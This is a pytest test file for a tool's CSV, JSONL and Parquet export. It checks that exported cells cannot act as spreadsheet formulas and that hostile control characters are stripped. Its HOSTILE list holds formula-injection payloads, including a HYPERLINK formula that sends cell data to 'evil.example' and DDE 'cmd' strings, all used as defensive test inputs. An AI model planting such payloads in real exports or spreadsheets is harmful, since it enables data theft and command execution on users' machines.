"""Files of records: read back by their own readers, and harmless in a spreadsheet, whoever wrote what is in them."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from bitting.activity.ports import Entry
from bitting.cli.formats import COLUMNS, FORMATS, format_from_text, safe
from bitting.desk.views import entry_view
from bitting.domain.errors import MalformedValue, Misconfigured
from tests.stores.trial import record

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "ccxt/4;=1+1",
    'ccxt/4",=1+1,"',
    "\u202egnp.exe",
    "\x1b]0;owned\x07",
    "\x00nothing",
)


def view(row: int = 1, status: int = 200, **fields: Any) -> dict[str, Any]:
    return entry_view(Entry(row, record(**fields), status, "order 7"), {})


def written(name: str, *pages: list[dict[str, Any]]) -> bytes:
    file = io.BytesIO()
    writer = FORMATS[name](file)
    for page in pages:
        writer.add(page)
    writer.end()
    return file.getvalue()


def test_the_columns_are_what_a_record_has() -> None:
    """Nothing of it is left out, and nothing else is asked for."""
    assert set(COLUMNS) == set(view())


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_stranger_is_a_formula(text: str) -> None:
    """In a client's name, a path or a label: it begins with an apostrophe or something harmless, in one quoted line."""
    data = written("csv", [view(agent=text, path=text)])
    assert data.count(b"\r\n") == data.count(b"\n") == data.count(b"\r") == 2
    [told] = csv.DictReader(io.StringIO(data.decode(), newline=""))
    for name in ("client", "path"):
        assert told[name].lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"  # noqa: RUF001
        assert not any(unicodedata.category(each) in ("Cc", "Cf") for each in told[name])
    assert None not in told
    for cell in (each for row in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";") for each in row):
        assert cell.lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"  # noqa: RUF001


@given(st.text())
def test_no_text_at_all_is_a_formula(text: str) -> None:
    """Nor more than a line."""
    cell = safe(text)
    assert cell.isprintable()
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@"))
    if text.isalnum() and text.isprintable():
        assert cell == text


def test_numbers_stay_numbers_in_columns_of_numbers_only() -> None:
    """A negative amount is a text that would be calculated; a status that nobody knows is no zero."""
    data = written("csv", [view(row=4096, value="-1", status=0), view(row=4097)]).decode()
    _, first, second, _ = data.split("\r\n")
    assert first.startswith('4096,"2026-09-21T14:13:20.000Z","r-')
    assert '"\'-1","",' in first
    assert second.startswith("4097,")
    assert second.endswith(',200,"order 7"')


def test_json_lines_have_everything_as_it_came() -> None:
    """In ASCII, a record a line, over several pages."""
    records = [view(number, agent=text) for number, text in enumerate(HOSTILE)]
    data = written("jsonl", records[:3], [], records[3:])
    assert data.isascii()
    assert [json.loads(line) for line in data.splitlines()] == records


def test_parquet_has_everything_as_it_came(monkeypatch: pytest.MonkeyPatch) -> None:
    """Moments as moments, numbers as numbers, over several groups of rows; and a file without a row is one, too."""
    monkeypatch.setattr("bitting.cli.formats._ROW_GROUP", 4)
    records = [view(number, agent=text, status=number % 2) for number, text in enumerate(HOSTILE)]
    data = written("parquet", records[:5], [], records[5:])
    assert parquet.ParquetFile(io.BytesIO(data)).num_row_groups == 2
    table = parquet.read_table(io.BytesIO(data))
    assert table.column_names == list(COLUMNS)
    told = table.to_pylist()
    for one, other in zip(told, records, strict=True):
        assert one.pop("at") == datetime(2026, 9, 21, 14, 13, 20, tzinfo=UTC)
        assert one.pop("status") == (other["status"] or None)
        assert one.items() <= other.items()
    assert parquet.read_table(io.BytesIO(written("parquet"))).num_rows == 0


def test_without_pyarrow_it_is_said_how_to_come_by_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is an extra, since it is larger than everything else together."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(Misconfigured, match=r"`pip install 'bitting\[parquet\]'`, or choose csv or jsonl"):
        FORMATS["parquet"](io.BytesIO())


def test_formats_have_names() -> None:
    assert format_from_text("csv") is FORMATS["csv"]
    with pytest.raises(MalformedValue, match="no format 'xlsx'; there are: csv, jsonl, parquet"):
        format_from_text("xlsx")
